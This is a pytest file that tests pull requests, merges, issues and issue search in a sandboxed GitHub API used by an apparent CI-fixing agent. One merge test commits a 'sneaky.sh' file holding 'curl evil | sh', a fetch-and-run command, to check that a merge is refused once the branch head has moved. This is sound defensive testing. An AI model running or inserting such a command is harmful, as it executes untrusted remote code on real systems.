"""Pull requests, issues and issue search in the sandbox, through the unmodified PyGithub."""

from __future__ import annotations

import pytest
from github import GithubException
from test_sandbox_fixtures import FIXED_WORKFLOW, REPO, WORKFLOW, client, make_sandbox


@pytest.fixture
def sb():
    sandbox = make_sandbox()
    yield sandbox
    sandbox.stop()


@pytest.fixture
def repo(sb):
    return client(sb).get_repo(REPO)


def fix_branch(repo, name="agent/fix-1"):
    """A branch with the workflow fixed; → the head sha."""
    repo.create_git_ref(f"refs/heads/{name}", repo.get_branch("main").commit.sha)
    return repo.update_file(WORKFLOW, "fix", FIXED_WORKFLOW, repo.get_contents(WORKFLOW).sha, branch=name)["commit"].sha


def test_pull_can_be_created_listed_by_head_and_read(repo):
    head = fix_branch(repo)
    created = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="marker")
    listed = list(repo.get_pulls(state="open", head="Apra-Labs:agent/fix-1"))
    assert [p.number for p in listed] == [created.number]
    assert list(repo.get_pulls(state="open", head="Apra-Labs:other")) == []
    got = repo.get_pull(created.number)
    assert (got.head.sha, got.base.ref, got.mergeable, got.state) == (head, "main", True, "open")


def test_duplicate_pull_for_the_same_head_answers_422(repo):
    fix_branch(repo)
    repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    with pytest.raises(GithubException) as err:
        repo.create_pull(base="main", head="agent/fix-1", title="again", body="")
    assert err.value.status == 422


def test_merge_with_the_expected_head_sha_lands_the_fix_on_main(repo, sb):
    head = fix_branch(repo)
    pull = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    status = pull.merge(sha=head, merge_method="squash")
    assert status.merged
    assert sb.file_text(REPO, WORKFLOW) == FIXED_WORKFLOW
    assert repo.get_pull(pull.number).merged and repo.get_pull(pull.number).state == "closed"


def test_merge_answers_409_when_the_head_moved(repo, sb):
    head = fix_branch(repo)
    pull = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    sb.commit_file(REPO, "agent/fix-1", "sneaky.sh", "curl evil | sh\n")
    with pytest.raises(GithubException) as err:
        pull.merge(sha=head)
    assert err.value.status == 409
    assert sb.file_text(REPO, "sneaky.sh") is None


@pytest.mark.parametrize("how", ["forced", "conflict", "closed"])
def test_merge_answers_405_when_the_pull_is_not_mergeable(repo, sb, how):
    head = fix_branch(repo)
    pull = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    if how == "forced":
        sb.set_mergeable(REPO, pull.number, False)
    elif how == "conflict":
        sb.commit_file(REPO, "main", WORKFLOW, "someone else's change\n")
    else:
        pull.edit(state="closed")
    with pytest.raises(GithubException) as err:
        pull.merge(sha=head)
    assert err.value.status == 405


def test_pull_can_be_closed_without_merging(repo):
    fix_branch(repo)
    pull = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    pull.edit(state="closed")
    closed = repo.get_pull(pull.number)
    assert (closed.state, closed.merged) == ("closed", False)
    assert [p.number for p in repo.get_pulls(state="closed")] == [pull.number]


def test_issue_can_be_created_listed_commented_labelled_and_closed(repo):
    issue = repo.create_issue("CI broken", body="details", labels=["ci-failure"], assignees=["dev1"])
    issue.create_comment("seen again")
    issue.add_to_labels("needs-human")
    assert [i.number for i in repo.get_issues(state="open", labels=["ci-failure", "needs-human"])] == [issue.number]
    assert [c.body for c in repo.get_issue(issue.number).get_comments()] == ["seen again"]
    assert list(repo.get_issues(creator="someone-else")) == []
    issue.edit(state="closed")
    assert repo.get_issue(issue.number).state == "closed"
    assert list(repo.get_issues(state="open")) == []


def test_search_finds_the_marker_only_in_that_repositorys_issue_bodies(sb, repo):
    sb.add_repo("other/repo")
    marker = "<!-- devops-agent:signature=0123456789abcdef -->"
    wanted = repo.create_issue("CI broken", body=f"text\n{marker}\n")
    repo.create_issue("unrelated", body="nothing here")
    client(sb).get_repo("other/repo").create_issue("elsewhere", body=marker)
    found = client(sb).search_issues(f'"{marker}" in:title,body repo:{REPO} is:issue')
    assert [i.number for i in found] == [wanted.number]
    assert found.totalCount == 1


def test_pull_requests_share_the_issue_number_space_and_take_labels_and_comments(repo):
    issue = repo.create_issue("first")
    fix_branch(repo)
    pull = repo.create_pull(base="main", head="agent/fix-1", title="Fix CI", body="")
    pull.add_to_labels("devops-agent")
    pull.create_issue_comment("verified on the fix branch")
    assert pull.number == issue.number + 1
    assert [label.name for label in repo.get_issue(pull.number).labels] == ["devops-agent"]
